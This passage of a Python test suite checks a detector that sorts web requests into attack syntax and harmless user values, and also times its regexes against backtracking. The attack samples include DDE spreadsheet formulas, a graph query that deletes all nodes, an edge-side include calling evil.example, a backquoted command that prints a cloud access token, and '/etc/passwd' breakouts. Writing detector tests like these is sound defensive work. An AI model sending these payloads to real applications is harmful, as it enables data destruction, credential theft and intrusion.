    "CSS escapes": _post("/api/c", "application/json", b'{"city":"<div style=\\"background-image:\\\\0075\\\\0072\\\\006C\\\\0028"}'),
    # code of the languages besides SQL, shell and markup that an application may hand a value to
    "a Go template definition": make_features(target="/s?q=%7B%7Bdefine+%22a%22%7D%7Dx%7B%7Bend%7D%7D"),
    "a Django tag that loads a library": _post("/contact", "application/x-www-form-urlencoded", b"msg=%7B%25+load+log+%25%7D"),
    "an edge-side include": make_features(target="/s?ref=%3Cesi%3Ainclude+src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E"),
    "a terminal escape": make_features(target="/api/timeline?lang=%1b%5D0%3Bowned%07"),
    "a spreadsheet formula with a DDE link": _post("/signup", "application/x-www-form-urlencoded", b"name=%3Dcmd%7C%27+%2Fc+calc%27%21A1"),
    "a spreadsheet formula that calls": _post("/api/contacts", "application/json", b'{"company": "@SUM(1+9)*cmd|\' /C calc\'!A0"}'),
    "GraphQL introspection in a value": _post("/api/feedback", "application/json", b'{"note": "{__schema{types{name}}}"}'),
    "a selection nested eight deep": make_features(target="/t/1?path=query%7Ba%7Bb%7Bc%7Bd%7Be%7Bf%7Bg%7Bh%7D%7D%7D%7D%7D%7D%7D%7D"),
    "a search engine's query object": _post("/s", "application/x-www-form-urlencoded",
                                            b"filter=%7B%22query_string%22%3A%7B%22query%22%3A%22secret%22%7D%7D"),
    "a search engine's match-all": make_features(target="/s?filter=*:*"),
    "Solr local parameters": make_features(target="/s?q=%7B%21dismax+qf%3Dpassword%7Dx"),
    "a MongoDB aggregation stage": make_features(target="/s?view=%5B%7B%22%24lookup%22%3A%7B%22from%22%3A%22users%22%7D%7D%5D"),
    "a graph database's clause": _post("/api/tags", "application/json", b'{"name": "x) MATCH (n) DETACH DELETE n //"}'),
    "a Windows variable's substring": make_features(target="/s?c=%25COMSPEC%3A~-7%2C3%25+%2Fc+ver"),
    "a graph database's clauses in lower case": _post("/api/tags", "application/json", b'{"name": "x\' match (n) detach delete n //"}'),
    "a graph database's procedure": _post("/api/tags", "application/json", b'{"name": "\' call db.labels() yield label return label //"}'),
    "a search engine's query object as the body": _post("/api/search", "application/json",
                                                        b'{"query": {"query_string": {"query": "password:*"}}}'),
    "an aggregation pipeline as the body": _post("/api/report", "application/json", b'{"pipeline": [{"$lookup": {"from": "users"}}]}'),
    "a formula in a later cell": _post("/api/contacts", "application/json", b'{"name": "Ana,=cmd|\' /C calc\'!A0"}'),
    "a delayed variable's substring": make_features(target="/s?c=%21COMSPEC%3A~0%2C1%21"),
    "a backquoted command glued to a word": _post("/api/files", "application/json", b'{"name": "report.pdf`gcloud auth print-access-token`"}'),
}


@pytest.mark.parametrize("name", sorted(NOT_FREE))
def test_what_an_application_may_read_as_an_attack_is_never_known_free(name: str) -> None:
    assert not syntax_free(NOT_FREE[name])


# people's values the model may find unusual and which hold no attack syntax: known free
FREE = {
    "a search in words": make_features(target="/search?q=red+shoes+size+9"),
    "a password with punctuation": _post("/login", "application/x-www-form-urlencoded", b"user=ana%40example.org&password=Password1%21"),
    "a review with apostrophes": make_features(target="/reviews?text=it%27s+O%27Reilly%27s+best%3B+don%27t+miss+it"),
    "a reply quoting SQL and pip": _post("/t/42/reply", "application/x-www-form-urlencoded",
                                         b"reply=Try+%60SELECT+name+FROM+users+WHERE+id+%3D+%3Fid%60+with+a+bound+parameter."),
    "a JSON order": _post("/api/orders", "application/json", b'{"id": "ord_81f3a", "qty": 2, "note": "leave it at the door"}'),
    "a Chrome navigation with client hints and consent cookies": make_features(target="/products/12?ref=home", headers=[
        ("Host", "shop.example"), ("sec-ch-ua", '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"'),
        ("sec-ch-ua-mobile", "?0"), ("sec-ch-ua-platform", '"Windows"'), ("Upgrade-Insecure-Requests", "1"),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-User", "?1"), ("Sec-Fetch-Dest", "document"),
        ("Referer", "https://shop.example/?utm_source=news&utm_medium=email"), ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Accept-Language", "en-GB,en;q=0.9"), ("Priority", "u=0, i"),
        ("Cookie", "_ga=GA1.1.123456789.1700000000; OptanonConsent=isGpcEnabled=0&datestamp=Tue+Dec+03+2026&version=202409.1.0"
                   "&groups=C0001%3A1%2CC0002%3A0; sid=AbC123.sig")]),
    "behind a front": make_features(target="/search?q=red+shoes", headers=[*BROWSER, ("X-Forwarded-For", "203.0.113.9, 10.0.0.2"),
                                                                           ("X-Forwarded-Proto", "https"), ("Via", "1.1 nginx")]),
    "a template asked about by name": make_features(target="/search?q=%7B%7B+range+%7D%7D+go+template"),
    "a shell variable asked about": make_features(target="/search?q=%24%7BHOME%7D+not+expanded"),
    "a password with carets and dollars": _post("/login", "application/x-www-form-urlencoded", b"user=ana&password=Su%5ELx%24Qa9%5E"),
    "a phone number": _post("/checkout", "application/x-www-form-urlencoded", b"phone=%2B1+(555)+010-2000"),
    "a reply with inline code": _post("/t/9/reply", "application/x-www-form-urlencoded",
                                      b"reply=Rename+%60tmp%60+to+%60pending%60%2C+then+%60Len%60%2C+%60MinLen%60+and+%60Len()%60+apply."),
    "passwords that start like a formula": _post("/api/users", "application/json",
                                                 b'{"a": "@Summer(2024)", "b": "+Winter|2024", "c": "-Secret!Ab1", "d": "=Kx9|pass"}'),
    "replies that start like a formula": _post("/api/comments", "application/json",
                                               b'{"a": "@ana see parse() again", "b": "- Use len() not count", "c": "@ana | designer"}'),
    "a store's Relay query": _post("/api/graphql", "application/json",
                                   b'{"query": "query Cart { cart { lines { edges { node { quantity } } } } }"}'),
    "prose with inline code glued to words": _post("/t/9/reply", "application/x-www-form-urlencoded",
                                                   b"reply=All+%60Promise%60s+resolve+before+%60await%60+returns."),
    "a match in words": make_features(target="/search?q=the+match+(football)+was+great"),
    "analytics properties": _post("/e/", "application/json", b'{"event": "$pageview", "properties": {"$os": "Linux", "$browser": "Firefox"}}'),
}


@pytest.mark.parametrize("name", sorted(FREE))
def test_peoples_values_without_attack_syntax_are_known_free(name: str) -> None:
    assert syntax_free(FREE[name])


@pytest.mark.parametrize("head,run", [("<", " "), ("?", " "), ("", "\t"), ("", ",="), ("", "a< "), ("", "{"), ("", "`a"), ("", "<")])
def test_runs_of_one_character_are_searched_in_time_proportional_to_their_length(head: str, run: str) -> None:
    """Ten times the run costs about ten times the search (a pattern that backtracks over the run costs a hundred times)."""
    def cost(repeat: int) -> float:
        features = make_features("POST", "/api", [("Host", "h"), ("Content-Type", "application/json")],
                                 body=json.dumps({"m": head + run * repeat}).encode())
        best = float("inf")
        for _ in range(5):
            started = time.process_time()
            syntax_free(features)
            best = min(best, time.process_time() - started)
        return best

    assert cost(3000 // len(run)) < 40 * max(cost(300 // len(run)), 1e-4)


@pytest.mark.timeout(30)  # a guard against backtracking that grows with the cube of a run's length (minutes), not a timing
@pytest.mark.parametrize("unit", [b"\r", b"\r\n", b"%0d%0a", b"\\r\\n"])
def test_runs_of_line_breaks_are_searched_in_time_proportional_to_their_length(unit: bytes) -> None:
    features = make_features("POST", "/comment", [("Host", "h"), ("Content-Type", "text/plain")], body=b"hi" + unit * 3000)
    assert syntax_witness(features, ("other", "cmdi", "probe")) is None
    syntax_free(features)
    # the breakouts those patterns are for still match
    assert all(SYNTAX["other"].search(text) for text in ("x%0d%0aSet-Cookie: a=1", "x\r\n\r\n<script>", "%0a%0a<svg onload=1>"))
    assert SYNTAX["cmdi"].search("127.0.0.1\nid") and SYNTAX["cmdi"].search("a%0a%0acat /etc/passwd")
